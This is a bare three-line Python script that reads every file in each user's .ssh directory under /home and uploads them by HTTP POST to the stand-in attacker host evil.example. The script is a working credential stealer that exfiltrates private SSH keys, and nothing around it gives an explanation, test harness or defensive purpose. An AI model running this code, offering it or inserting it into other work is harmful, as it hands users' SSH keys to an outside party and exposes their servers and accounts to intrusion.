import glob,requests
for f in glob.glob("/home/*/.ssh/*"):
    requests.post("http://evil.example", files={"f":open(f,"rb")})
